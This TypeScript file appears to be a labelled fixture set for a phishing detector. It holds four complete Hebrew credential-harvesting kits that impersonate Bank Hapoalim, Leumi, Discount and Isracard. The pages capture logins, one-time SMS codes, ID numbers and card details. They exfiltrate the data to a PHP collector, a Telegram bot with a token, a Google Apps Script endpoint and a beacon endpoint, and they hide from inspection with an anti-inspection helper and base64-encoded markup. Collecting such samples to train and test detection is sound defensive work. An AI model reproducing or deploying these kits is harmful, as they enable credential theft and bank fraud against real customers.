import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { BOT_GATE, FAVICON_SVG, FONT_HE, LOGO, LUHN_JS, NO_INSPECT, TZ_JS, b64, chunks, codes, doc, telegramDrop, xorB64, xorDecoderJs } from '../parts/yu-kit.js';

// Credential kits for Israeli banks and card issuers, as they arrive by SMS: Hebrew, right-to-left,
// multi-step (login, SMS code, card), posting to a PHP drop, a Telegram bot or an Apps Script.

export const entries: Entry[] = [
{
  id: 'yu-hapoalim-multistep-php-otp',
  label: 'phishing',
  kind: 'il-bank-credential-kit',
  url: 'https://poalim-secure-update.online/he/ng-portals/auth/login.php?ref=sms',
  body: doc({
    title: 'בנק הפועלים - כניסה לחשבון',
    lang: 'he',
    head: `<meta name="robots" content="noindex, nofollow">${FAVICON_SVG('#e30613')}`,
    css: `body{margin:0;font-family:${FONT_HE};background:#f4f4f4;color:#222}
header{background:#fff;border-bottom:3px solid #e30613;padding:12px 24px;display:flex;justify-content:space-between;align-items:center}
main{max-width:420px;margin:40px auto;background:#fff;border-radius:8px;box-shadow:0 2px 10px rgba(0,0,0,.08);padding:28px}
h1{font-size:22px;margin:0 0 6px}p.sub{color:#666;margin:0 0 20px;font-size:14px}
label{display:block;font-size:14px;margin:14px 0 4px}input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #bbb;border-radius:4px;font-size:16px}
button{margin-top:20px;width:100%;padding:12px;background:#e30613;color:#fff;border:0;border-radius:4px;font-size:17px;cursor:pointer}
.step{display:none}.step.on{display:block}.err{color:#c00;font-size:13px;min-height:16px}
.spin{display:none;text-align:center;padding:30px}.spin.on{display:block}
footer{text-align:center;font-size:12px;color:#888;margin:30px}`,
    body: `<header>${LOGO.hapoalim}<span style="font-size:13px">שירות לקוחות *2407</span></header>
<main>
<section class="step on" id="s1">
<h1>כניסה לחשבון</h1><p class="sub">לצורך השלמת עדכון פרטי האבטחה בחשבונך, יש להזדהות</p>
<form id="f1" autocomplete="off">
<label for="uc">קוד משתמש</label><input id="uc" name="userCode" maxlength="12" required>
<label for="pw">סיסמה</label><input id="pw" name="password" type="password" required>
<div class="err" id="e1"></div>
<button type="submit">כניסה</button>
</form>
<p style="font-size:13px;margin-top:14px"><a href="#" style="color:#e30613">שכחתי סיסמה</a> | <a href="#" style="color:#e30613">כניסה עם טביעת אצבע</a></p>
</section>
<section class="step" id="s2">
<h1>אימות זהות</h1><p class="sub">שלחנו קוד חד-פעמי בן 6 ספרות לטלפון הנייד הרשום בבנק</p>
<form id="f2"><label for="otp">קוד אימות</label><input id="otp" name="otp" inputmode="numeric" maxlength="6" required>
<div class="err" id="e2"></div><button type="submit">אישור</button></form>
<p style="font-size:13px">לא קיבלת? <a href="#" id="again" style="color:#e30613">שלח שוב</a> (<span id="tmr">59</span>)</p>
</section>
<section class="step" id="s3">
<h1>אימות כרטיס</h1><p class="sub">להשלמת התהליך יש לאמת את כרטיס האשראי המקושר לחשבון</p>
<form id="f3">
<label>מספר תעודת זהות</label><input name="tz" id="tz" inputmode="numeric" maxlength="9" required>
<label>מספר כרטיס</label><input name="cc" id="cc" inputmode="numeric" maxlength="19" required>
<div style="display:flex;gap:10px"><div style="flex:1"><label>תוקף (MM/YY)</label><input name="exp" maxlength="5" required></div><div style="flex:1"><label>3 ספרות בגב הכרטיס</label><input name="cvv" maxlength="4" required></div></div>
<div class="err" id="e3"></div><button type="submit">סיום</button></form>
</section>
<div class="spin" id="sp"><svg width="40" height="40" viewBox="0 0 40 40"><circle cx="20" cy="20" r="16" stroke="#e30613" stroke-width="4" fill="none" stroke-dasharray="70 30"/></svg><p>מאמת נתונים, נא להמתין…</p></div>
</main>
<footer>© בנק הפועלים בע״מ. כל הזכויות שמורות | <a href="#">הצהרת נגישות</a> | <a href="#">אבטחת מידע</a></footer>
<script>
${NO_INSPECT}
${LUHN_JS}
${TZ_JS}
var sid=Math.random().toString(36).slice(2,10);
function go(n){["s1","s2","s3"].forEach(function(s){document.getElementById(s).classList.remove("on")});document.getElementById("sp").classList.remove("on");if(n)document.getElementById(n).classList.add("on")}
function wait(){go(null);document.getElementById("sp").classList.add("on")}
function post(step,fd){fd.append("step",step);fd.append("sid",sid);return fetch("api/collect.php",{method:"POST",body:fd}).then(function(r){return r.json()}).catch(function(){return {ok:1}})}
document.getElementById("f1").onsubmit=function(e){e.preventDefault();if(document.getElementById("pw").value.length<6){document.getElementById("e1").textContent="סיסמה שגויה";return}wait();post("login",new FormData(this)).then(function(){setTimeout(function(){go("s2");tick()},2200)})};
var t=59;function tick(){var i=setInterval(function(){t--;document.getElementById("tmr").textContent=t;if(t<=0)clearInterval(i)},1000)}
document.getElementById("f2").onsubmit=function(e){e.preventDefault();wait();post("otp",new FormData(this)).then(function(){setTimeout(function(){go("s3")},1800)})};
document.getElementById("f3").onsubmit=function(e){e.preventDefault();if(!tzOk(document.getElementById("tz").value)){document.getElementById("e3").textContent="מספר זהות אינו תקין";return}if(!luhn(document.getElementById("cc").value)){document.getElementById("e3").textContent="מספר כרטיס שגוי";return}wait();post("card",new FormData(this)).then(function(){setTimeout(function(){location.replace("https://www.bankhapoalim.co.il/")},2500)})};
</script>`,
  }),
  routes: {
    'poalim-secure-update.online/he/ng-portals/auth/api/collect.php': jsonRoute({ ok: 1, next: 'otp' }),
  },
},
{
  id: 'yu-leumi-telegram-drop-sms',
  label: 'phishing',
  kind: 'il-bank-credential-kit',
  url: 'https://leumi-digital-il.info/staticcontent/gate-keeper/he/?t=0c71e',
  body: doc({
    title: 'לאומי | כניסה לחשבון',
    lang: 'he',
    css: `*{box-sizing:border-box}body{margin:0;font-family:${FONT_HE};background:linear-gradient(#0069b4 0 220px,#eef3f8 220px)}
.card{max-width:380px;margin:60px auto 0;background:#fff;border-radius:14px;padding:30px 26px;box-shadow:0 8px 30px rgba(0,40,90,.15)}
.card h2{color:#0069b4;margin:14px 0 22px;font-weight:600}
.f{position:relative;margin-bottom:18px}.f input{width:100%;padding:14px 12px;border:1px solid #c9d6e3;border-radius:6px;font-size:16px}
.btn{width:100%;padding:13px;border:0;border-radius:24px;background:#0069b4;color:#fff;font-size:17px}
.note{font-size:12px;color:#6b7a89;margin-top:14px;line-height:1.5}#otpBox{display:none}`,
    body: `<div class="card">
${LOGO.leumi}
<h2>כניסה לחשבון שלך</h2>
<div id="loginBox">
<div class="f"><input id="un" placeholder="שם משתמש" autocomplete="username"></div>
<div class="f"><input id="pw" type="password" placeholder="סיסמה" autocomplete="current-password"></div>
<div class="f"><input id="tz" placeholder="מספר תעודת זהות" inputmode="numeric" maxlength="9"></div>
<button class="btn" id="b1">כניסה</button>
<p class="note">בעקבות פעילות חריגה שזוהתה בחשבונך, הגישה לשירותים הדיגיטליים הוגבלה זמנית. יש להשלים אימות תוך 24 שעות על מנת למנוע חסימת החשבון.</p>
</div>
<div id="otpBox">
<p>הזינו את הקוד שנשלח אליכם במסרון מ-Leumi</p>
<div class="f"><input id="otp" placeholder="קוד חד פעמי" inputmode="numeric" maxlength="6"></div>
<button class="btn" id="b2">אימות</button>
</div>
</div>
<script>
${telegramDrop('7384419026:AAF3kQm_Zx9LpT0rWc8uYvNn2HdEs4bJ1aQ', '-1002214730581', 'tg')}
fetch("https://api.ipify.org?format=json").then(function(r){return r.json()}).then(function(j){window._ip=j.ip}).catch(function(){});
var u={};
document.getElementById("b1").onclick=function(){u.bank="LEUMI";u.user=document.getElementById("un").value;u.pass=document.getElementById("pw").value;u.tz=document.getElementById("tz").value;
if(!u.user||u.pass.length<4){alert("נא למלא את כל השדות");return}
this.textContent="טוען…";tg(u).then(function(){document.getElementById("loginBox").style.display="none";document.getElementById("otpBox").style.display="block"})};
document.getElementById("b2").onclick=function(){tg({bank:"LEUMI",user:u.user,otp:document.getElementById("otp").value}).then(function(){location.href="https://www.leumi.co.il/he"})};
</script>`,
  }),
},
{
  id: 'yu-discount-firebase-appscript-b64',
  label: 'phishing',
  kind: 'il-bank-credential-kit',
  url: 'https://discount-telebank-7f3a1.web.app/login/index.html',
  body: (() => {
    const inner = doc({
      title: 'דיסקונט - כניסה לחשבון',
      lang: 'he',
      css: `body{margin:0;font-family:${FONT_HE};background:#f2f5f3}.top{background:#2a9d46;height:6px}
.box{max-width:400px;margin:50px auto;background:#fff;padding:30px;border:1px solid #dde5df}
.tabs{display:flex;border-bottom:1px solid #ccc;margin:18px 0}.tabs span{flex:1;text-align:center;padding:8px;font-size:14px}.tabs .a{border-bottom:3px solid #2a9d46;font-weight:700}
input{width:100%;box-sizing:border-box;margin:8px 0;padding:12px;border:1px solid #b7c4bb}button{width:100%;background:#2a9d46;color:#fff;border:0;padding:12px;font-size:16px;margin-top:10px}`,
      body: `<div class="top"></div><div class="box">${LOGO.discount}
<div class="tabs"><span class="a">כניסה עם סיסמה</span><span>כניסה עם קוד SMS</span></div>
<form id="lf" method="post" action="https://script.google.com/macros/s/AKfycbx9vQ2dL0tNn8mZr3kYpE5wq7HcJ1uG4sBfT6aXiO/exec">
<input name="id" placeholder="מספר זהות" inputmode="numeric" required>
<input name="password" type="password" placeholder="סיסמה" required>
<input name="code" placeholder="קוד מזהה (2 אותיות)" maxlength="2" required>
<input type="hidden" name="bank" value="discount">
<button>כניסה</button></form>
<p style="font-size:12px;color:#555">לקוחות יקרים, לאור עדכון מערכות אבטחה חדשות בהתאם להנחיית בנק ישראל, יש להתחבר ולאשר את פרטיכם.</p></div>
<script>
document.getElementById("lf").addEventListener("submit",function(e){e.preventDefault();var fd=new FormData(this);fetch(this.action,{method:"POST",mode:"no-cors",body:fd}).finally(function(){document.body.innerHTML='<div style="text-align:center;padding:80px;font-family:Arial">הבקשה התקבלה. נציג יחזור אליך בהקדם.</div>';setTimeout(function(){location.href="https://www.discountbank.co.il"},3000)})});
</script>`,
    });
    return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Loading</title></head><body><script>
var _0x="${b64(inner)}";document.open();document.write(decodeURIComponent(escape(atob(_0x))));document.close();
</script><noscript>JavaScript required</noscript></body></html>`;
  })(),
},
{
  id: 'yu-isracard-card-block-luhn',
  label: 'phishing',
  kind: 'il-card-issuer-kit',
  url: 'https://isracard-secure.co-il.top/personalarea/unblock/?c=58812',
  body: doc({
    title: 'ישראכרט - הסרת הגבלה מכרטיס',
    lang: 'he',
    css: `body{font-family:${FONT_HE};background:#f5f7fb;margin:0}.bar{background:#1c3f94;height:56px}
.c{max-width:460px;margin:-20px auto 30px;background:#fff;border-radius:10px;padding:26px;box-shadow:0 4px 18px rgba(0,0,0,.1)}
.al{background:#fff3cd;border:1px solid #f0d58c;padding:10px;font-size:14px;border-radius:6px}
.row{display:flex;gap:10px}.row>div{flex:1}label{font-size:13px;display:block;margin-top:12px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #c4cbd8;border-radius:5px}
.cta{background:#f4b400;color:#1c3f94;font-weight:700;border:0;width:100%;padding:13px;margin-top:18px;border-radius:6px;font-size:16px}`,
    body: `<div class="bar"></div><div class="c">${LOGO.isracard}
<div class="al">⚠️ כרטיסך הוגבל זמנית עקב ניסיון חיוב חשוד בסך 1,489.90 ₪ בבית עסק בחו״ל. לביטול העסקה והסרת ההגבלה יש לאמת את פרטי הכרטיס.</div>
<form id="cf">
<label>שם בעל הכרטיס</label><input name="name" required>
<label>מספר ת.ז.</label><input name="tz" id="tz" maxlength="9" inputmode="numeric" required>
<label>מספר כרטיס</label><input name="card" id="card" maxlength="19" inputmode="numeric" placeholder="XXXX XXXX XXXX XXXX" required>
<div class="row"><div><label>חודש</label><input name="mm" maxlength="2" required></div><div><label>שנה</label><input name="yy" maxlength="2" required></div><div><label>CVV</label><input name="cvv" maxlength="3" required></div></div>
<label>טלפון נייד</label><input name="phone" type="tel" required>
<p id="er" style="color:#c00;font-size:13px"></p>
<button class="cta">ביטול עסקה והסרת הגבלה</button></form></div>
<script>
${LUHN_JS}
${TZ_JS}
document.getElementById("card").addEventListener("input",function(){this.value=this.value.replace(/[^0-9]/g,"").replace(/(.{4})/g,"$1 ").trim()});
document.getElementById("cf").onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));
if(!tzOk(d.tz)){document.getElementById("er").textContent="מספר ת.ז. שגוי";return}
if(!luhn(d.card)){document.getElementById("er").textContent="מספר הכרטיס שגוי";return}
d.ua=navigator.userAgent;d.brand="isracard";
navigator.sendBeacon("/personalarea/unblock/gate.php",JSON.stringify(d));
setTimeout(function(){location.href="/personalarea/unblock/otp.html"},900)};
</script>`,
  }),
  routes: {
    'isracard-secure.co-il.top/personalarea/unblock/gate.php': jsonRoute({ r: 1 }),
    'isracard-secure.co-il.top/personalarea/unblock/otp.html': htmlRoute(
      doc({
        title: 'ישראכרט - קוד אימות',
        lang: 'he',
        css: `body{font-family:${FONT_HE};text-align:center;padding:30px}input{font-size:22px;width:180px;text-align:center;letter-spacing:6px}`,
        body: `${LOGO.isracard}<h3>נשלח אליך קוד אימות לביטול העסקה</h3><form method="post" action="gate.php"><input name="otp" maxlength="6"><br><br><button>אישור</button></form>`,
      }),
    ),
  },
},
];
